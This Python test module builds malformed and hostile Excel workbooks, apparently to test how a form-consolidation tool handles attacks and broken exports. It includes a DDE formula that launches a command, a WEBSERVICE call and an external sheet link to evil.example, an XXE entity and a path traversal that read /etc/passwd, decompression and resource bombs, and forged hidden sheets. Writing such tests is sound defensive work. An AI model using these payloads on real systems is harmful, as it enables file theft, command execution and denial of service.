"""What attackers, broken programs and clumsy offices put into workbooks; functions get the unit's name."""

from __future__ import annotations

import random
import re
from collections.abc import Callable

from tests.hostile import ooxml
from tests.hostile.books import HEAD, Make, added, cells_at, changed, put
from tests.hostile.form import filled, place
from tests.hostile.ooxml import Raw

_NOTE = "applications.carried_in.natural_person"
_STRINGS = "xl/sharedStrings.xml"
_LINK = '<Relationship Id="{}" Type="{}/{}" Target="{}"{}/>'


def noise(size: int) -> str:
    """Letters that hardly compress, so that no limit on the ratio stands in the way."""
    return "".join(random.Random(size).choices("abcdefghijklmnopqrstuvwxyz", k=size))


def related(kind: str, target: str, part: str = "", data: str = "", external: bool = False) -> Make:
    """A correct workbook with one more relationship of the workbook, and its part."""

    def make(unit: str) -> bytes:
        parts = ooxml.parts(filled(unit), ooxml.Options())
        mode = ' TargetMode="External"' if external else ""
        link = _LINK.format("rId99", ooxml.RELATIONS, kind, target, mode)
        relations = parts["xl/_rels/workbook.xml.rels"].replace(b"</Rel", link.encode() + b"</Rel")
        more = {part: data.encode()} if part else {}
        return ooxml.packed({**parts, "xl/_rels/workbook.xml.rels": relations, **more})

    return make


def _strings(texts: str, cells: str) -> Make:
    """A correct workbook with shared strings, and cells at the end that use them."""
    table = f'{HEAD}<sst xmlns="{ooxml.MAIN}">{texts}</sst>'

    def make(unit: str) -> bytes:
        def more(text: str) -> str:
            return text.replace("</sheetData>", f'<row r="60">{cells}</row></sheetData>')

        parts = ooxml.parts(filled(unit), ooxml.Options(sheet=more))
        link = _LINK.format("rId99", ooxml.RELATIONS, "sharedStrings", "sharedStrings.xml", "")
        relations = parts["xl/_rels/workbook.xml.rels"].replace(b"</Rel", link.encode() + b"</Rel")
        return ooxml.packed({**parts, "xl/_rels/workbook.xml.rels": relations, _STRINGS: table.encode()})

    return make


def _many_uses(count: int) -> str:
    return "".join(f'<c r="{chr(65 + n % 26)}{60 + n // 26}" t="s"><v>0</v></c>' for n in range(count))


def after(extra: str) -> Make:
    """A correct workbook with XML after the merged cells of every sheet."""
    return changed(lambda text: text.replace("</worksheet>", extra + "</worksheet>"))


def before(extra: str) -> Make:
    """A correct workbook with XML before the cells of every sheet."""
    return changed(lambda text: text.replace("<sheetData>", extra + "<sheetData>"))


def book(change: Callable[[str], str]) -> Make:
    """A correct workbook but for the XML of the workbook itself."""

    def make(unit: str) -> bytes:
        parts = ooxml.parts(filled(unit), ooxml.Options())
        parts["xl/workbook.xml"] = change(parts["xl/workbook.xml"].decode()).encode()
        return ooxml.packed(parts)

    return make


def _named(names: str) -> Make:
    return book(lambda text: text.replace("</sheets>", f"</sheets><definedNames>{names}</definedNames>"))


def relation(old: str, new: str) -> Make:
    """A correct workbook but for the targets of its sheets."""

    def make(unit: str) -> bytes:
        parts = ooxml.parts(filled(unit), ooxml.Options())
        name = "xl/_rels/workbook.xml.rels"
        parts[name] = parts[name].replace(old.encode(), new.encode())
        return ooxml.packed(parts)

    return make


def _renamed_part(unit: str) -> bytes:
    """Sheets under a name that is no .xml, one of them with a DOCTYPE."""
    parts = ooxml.parts(filled(unit), ooxml.Options())
    moved = {name.replace("sheet4.xml", "sheet4.dat"): data for name, data in parts.items()}
    relations = "xl/_rels/workbook.xml.rels"
    moved[relations] = moved[relations].replace(b"sheet4.xml", b"sheet4.dat")
    sheet = moved["xl/worksheets/sheet4.dat"]
    doctype = b'<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet'
    moved["xl/worksheets/sheet4.dat"] = sheet.replace(b"<worksheet", doctype, 1)
    return ooxml.packed(moved)


def _wrong_case(unit: str) -> bytes:
    """Parts whose names are written in capitals, as some export programs do."""
    parts = ooxml.parts(filled(unit), ooxml.Options())
    return ooxml.packed(
        {name.replace("xl/worksheets", "xl/Worksheets"): data for name, data in parts.items()}
    )


def _backslashes(unit: str) -> bytes:
    parts = ooxml.parts(filled(unit), ooxml.Options())
    return ooxml.packed({name.replace("/", "\\"): data for name, data in parts.items()})


def _formula(text: str, stored: str = "0") -> Make:
    return put(Raw("", f"<f>{text}</f><v>{stored}</v>"), _NOTE)


def _circle(unit: str) -> bytes:
    """Two cells that each are the other."""
    grids = filled(unit)
    sheet, row, column = place(_NOTE)
    there, here = ooxml.address(row, column + 1), ooxml.address(row, column)
    grids[sheet].cells[row, column] = Raw("", f"<f>{there}</f><v>0</v>")
    grids[sheet].cells[row, column + 1] = Raw("", f"<f>{here}</f><v>0</v>")
    return ooxml.book(grids)


def _twice_told(unit: str) -> bytes:
    """A value cell that stands twice in its row, with two values."""
    _, row, column = place(_NOTE)
    where = ooxml.address(row, column)
    return ooxml.book(
        filled(unit),
        sheet=lambda text: re.sub(rf'(<c r="{where}"><v>0</v></c>)', rf'\1<c r="{where}"><v>7</v></c>', text),
    )


def _forged(facts: dict[str, str]) -> Make:
    """A workbook with a hidden sheet that says that we made it."""

    def make(unit: str) -> bytes:
        grids = filled(unit)
        sheet = type(grids[0])("_consolidate")
        for number, (key, value) in enumerate({"tool": "consolidate", **facts}.items()):
            sheet.cells[number, 0], sheet.cells[number, 1] = key, value
        return ooxml.book([*grids, sheet], states={"_consolidate": 'state="veryHidden"'})

    return make


def _many_sheets(count: int) -> Make:
    def make(unit: str) -> bytes:
        grids = filled(unit)
        more = [type(grids[0])(f"附{number}", {(0, 0): "备注"}) for number in range(count)]
        return ooxml.book([*grids, *more])

    return make


def _copies(count: int) -> Make:
    """The whole form again and again in one workbook."""

    def make(unit: str) -> bytes:
        grids = filled(unit)
        more = [
            type(grids[0])(f"{grid.name}_{number}", grid.cells, grid.merged)
            for number in range(count)
            for grid in grids
        ]
        return ooxml.book([*grids, *more])

    return make


def _far(cell: str, value: str = "<v>1</v>") -> str:
    return f'<row r="{cell.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")}"><c r="{cell}">{value}</c></row>'


_FONTS, _FORMATS = "<font/>" * 5_000, "<xf/>" * 20_000
_STYLES = (
    f'{HEAD}<styleSheet xmlns="{ooxml.MAIN}"><fonts>{_FONTS}</fonts>'
    f'<cellXfs count="64000">{_FORMATS}</cellXfs></styleSheet>'
)
_NUMBER_FORMAT = (
    f'{HEAD}<styleSheet xmlns="{ooxml.MAIN}"><numFmts count="1"><numFmt numFmtId="164" '
    f'formatCode="{"[h" * 30_000}"/></numFmts><cellXfs count="1"><xf numFmtId="164"/></cellXfs></styleSheet>'
)
_NAMES = "".join(f'<definedName name="n{n}">n{n + 1}+n{n + 1}</definedName>' for n in range(20_000))
_HYPERLINKS = (
    f'<hyperlinks><hyperlink ref="A1:XFD1048576" location="{noise(9)}!A1" display="x"/></hyperlinks>'
)
_RULES = "<conditionalFormatting sqref='A1:XFD1048576'>" + "".join(
    f'<cfRule type="expression" priority="{n + 1}"><formula>A1&gt;{n}</formula></cfRule>'
    for n in range(5_000)
)
_VALIDATIONS = "<dataValidations>" + "".join(
    f'<dataValidation type="list" sqref="A{n}:XFD{n}"><formula1>"{noise(40)}"</formula1></dataValidation>'
    for n in range(1, 5_000)
)

TRICKS: dict[str, Make] = {
    # numbers that readers take differently
    "加号数": put(Raw("", "<v>+0</v>")),
    "十六进制": put(Raw("", "<v>0x10</v>")),
    "下划线数": put(Raw("", "<v>1_000</v>")),
    "科学计数": put(Raw("", "<v>0E+0</v>")),
    "空格值": put(Raw("", "<v> 0 </v>")),
    "负零": put(Raw("", "<v>-0</v>")),
    "空值": put(Raw("", "<v></v>")),
    "长数字": put(Raw("", f"<v>{'9' * 400}</v>")),
    "阿拉伯数": put("٠"),
    "罗马数": put("Ⅻ"),
    "汉字数": put("十二"),
    "分数": put("½"),
    "带圈": put("⑫"),
    "大写金额": put("壹万元整"),
    "未知类型": put(Raw('t="z"', "<v>0</v>")),
    "共享缺号": put(Raw('t="s"', "<v>999999999</v>")),
    "共享负号": put(Raw('t="s"', "<v>-1</v>")),
    "拼音": put(Raw('t="inlineStr"', "<is><t>0</t><rPh sb='0' eb='1'><t>ling</t></rPh></is>")),
    "富文本值": put(Raw('t="inlineStr"', "<is><r><t>4</t></r><r><t>7</t></r></is>")),
    "重复单元格": _twice_told,
    "循环公式": _circle,
    "网络函数": _formula("WEBSERVICE(&quot;http://evil.example/&quot;)"),
    "数组公式": put(Raw("", '<f t="array" ref="A1:XFD1048576">1</f><v>0</v>')),
    "共享公式": put(Raw("", '<f t="shared" si="0" ref="A1:XFD1048576">A1</f><v>0</v>')),
    "长公式": _formula("+".join(["A1"] * 20_000)),
    "动态交换": _formula("cmd|&quot;/c calc&quot;!A1"),
    # strings
    "串炸弹": _strings(f"<si><t>{noise(1 << 20)}</t></si>", _many_uses(2_000)),
    "空串海": _strings(f"<si><t>{noise(9)}</t></si>" + "<si/>" * 20_000, ""),
    "富文本海": _strings(
        "<si>" + "".join(f"<r><t>{n}</t></r>" for n in range(20_000)) + "</si>", _many_uses(9)
    ),
    # parts that are not what they seem
    "外部工作表": related("worksheet", "http://evil.example/sheet.xml", external=True),
    "绝对目标": relation("worksheets/sheet", "/xl/worksheets/sheet"),
    "越界目标": relation("worksheets/sheet4.xml", "../../../../etc/passwd"),
    "目标同一": relation("worksheets/sheet4.xml", "worksheets/sheet3.xml"),
    "目标为空": relation('Target="worksheets/sheet4.xml"', 'Target=""'),
    "部件改名": _renamed_part,
    "部件大写": _wrong_case,
    "反斜杠": _backslashes,
    "无内容类型": added(("[Content_Types].xml", b"")),
    "坏内容类型": added(("[Content_Types].xml", b"<Types/>")),
    "空工作簿": added(("xl/workbook.xml", b"")),
    "坏关系": added(("xl/_rels/workbook.xml.rels", b"<Relationships/>")),
    "样式海": related("styles", "styles.xml", "xl/styles.xml", _STYLES),
    "坏样式": related("styles", "styles.xml", "xl/styles.xml", "<styleSheet"),
    "怪格式": related("styles", "styles.xml", "xl/styles.xml", _NUMBER_FORMAT),
    "怪编码": added(
        ("docProps/app.xml", f'<?xml version="1.0" encoding="punycode"?>-{noise(400_000)}'.encode())
    ),
    "三十二位": lambda unit: ooxml.book(
        filled(unit), encode=lambda text: text.replace("UTF-8", "UTF-32").encode("utf-32")
    ),
    "名称海": _named(_NAMES),
    "长名称": _named(f'<definedName name="x">{noise(500_000)}</definedName>'),
    "表名过长": book(lambda text: text.replace('name="表三"', f'name="{"长" * 3_000}"')),
    "表名怪字": book(lambda text: text.replace('name="表三"', 'name="[表]:*?/\\三"')),
    "表名换行": book(lambda text: text.replace('name="表三"', 'name="表&#10;三"')),
    "表名全空": book(lambda text: text.replace('name="表三"', 'name=""')),
    "工作表多": _many_sheets(1_200),
    "整表十份": _copies(10),
    # sheets that keep a reader or a writer busy
    "有值天涯": cells_at(_far("A1048576")),
    "空格天涯": cells_at(_far("A1048576", "<v></v>")),
    "十万行": cells_at(_far("A100000")),
    "横向天涯": cells_at(_far("XFD300")),
    "行序天涯": changed(lambda text: text.replace("<sheetData>", "<sheetData>" + _far("XFD1048576"))),
    "元素不闭": before(" hidden " + "".join(f"<row {noise(20)}{n} " for n in range(30_000))),
    "属性重复": before("#" + "".join(f'<c t="e" x{n}="{noise(9)}" t="e" ' for n in range(30_000))),
    "注释海": before(f"<!--{noise(2_000_000)}-->"),
    "列定义海": before(
        "<cols>" + "".join(f'<col min="1" max="16384" width="{n}"/>' for n in range(5_000)) + "</cols>"
    ),
    "超链接": after(_HYPERLINKS),
    "条件格式海": after(_RULES + "</conditionalFormatting>"),
    "有效性海": after(_VALIDATIONS + "</dataValidations>"),
    "自动筛选": after('<autoFilter ref="A1:XFD1048576"/>'),
    "反向合并": changed(
        lambda text: text.replace("<mergeCells ", '<mergeCells x="" ').replace('ref="A1:', 'ref="J1:')
    ),
    "合并盖数": changed(lambda text: text.replace("</mergeCells>", '<mergeCell ref="A1:Z60"/></mergeCells>')),
    # sheets that pretend to be ours
    "冒充汇总": _forged({"role": "master", "template": "disclosure-2019", "data_sheet": "封面"}),
    "冒充退回": _forged(
        {"role": "return", "source": "0" * 64, "review": "表三", "mark00001": "表三/B2/FF0000"}
    ),
}
